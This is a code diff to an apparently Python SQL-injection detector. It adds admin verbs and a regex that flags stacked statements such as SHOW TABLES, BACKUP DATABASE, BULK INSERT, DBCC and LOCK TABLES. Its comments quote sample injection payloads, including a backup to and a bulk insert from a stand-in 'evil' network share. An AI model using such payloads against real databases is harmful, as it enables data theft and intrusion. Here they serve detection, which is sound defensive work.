@@ -37,6 +37,8 @@ _BOUNDED: Final = words(
     "or and xor not div mod create update delete insert replace drop alter exec declare "
     "order group from where limit into having case when procedure analyse truncate"
 )
+# Statements that administer a server, stacked after `;` (`_STACKED_ADMIN`).
+_ADMIN_VERBS: Final = ("show", "backup", "bulk", "dbcc", "lock")
 _FUNCTION_TOKENS: Final = words(
     "database db_name schema user_name current_user group_concat chr ascii hex substr mid "
     "cast convert find_in_set make_set elt sys_context has_dbaccess is_srvrolemember "
@@ -94,7 +96,7 @@ TOKENS: Final = (
     # with it: 1;CALL proc(1), 1;PRAGMA table_info(users), 1;RENAME TABLE users TO x
     *(
         f";{gap}{verb}"
-        for verb in ("call", "pragma", "rename", "handler", "revoke", "grant")
+        for verb in ("call", "pragma", "rename", "handler", "revoke", "grant", *_ADMIN_VERBS)
         for gap in ("", " ", "\t", "\n")
     ),
     *words(
@@ -525,6 +527,17 @@ _INFERENCE: Final = searchable(
 # A procedure called in a statement stacked after `;`, its arguments ending it: ;CALL
 # REGEXP_SUBSTRING(…, not "Call me; call mom(later) tonight", where words follow them.
 _STACKED_CALL: Final = re.compile(r";\s*call\s+[\w.$]{1,64}\s*\((?![^()\n]{0,120}\)[ \t]+[a-z])")
+# A statement that reads a server's catalogue, copies a database or a file out, or locks
+# tables, stacked after a value's first word (`1;show tables--`, `1';backup database x to
+# disk='\\evil\s\x'--`, `;bulk insert t from '\\evil\s\x'`), in its own grammar: not
+# "Closed; show the receipt", "Room 5; lock the door".
+_STACKED_ADMIN: Final = re.compile(
+    r"^[^;\s]{0,40};\s*(?:show\s+(?:full\s+)?(?:tables|databases|schemas|grants|processlist"
+    r"|variables|columns\s+from|create\s+table|master\s+status|slave\s+status)\b"
+    r"|backup\s+(?:database|log)\s+\S+\s+to\s+(?:disk|url)\s*="
+    r"|bulk\s+insert\s+\S+\s+from\s+['\"]|dbcc\s+[a-z]\w*"
+    r"|lock\s+tables?\s+[\w.`]+\s+(?:read|write)\b)"
+)
 # ...and a sentence's instruction after one: "results are approximate; call
 # `RetrieveRegisterParameters` on a domain first". CALL takes a procedure's arguments or
 # nothing after its name, not a word.
@@ -1679,6 +1692,7 @@ def _confirm(view: View, lower: str, present: frozenset[str]) -> Match | None:
             (R_TAUTOLOGY, _LITERAL_CONDITION),
             (R_TAUTOLOGY, _INFERENCE),
             (R_STACKED, _STACKED_CALL),
+            (R_STACKED, _STACKED_ADMIN),
         ):
             probe = pattern.search(text)
             if probe:
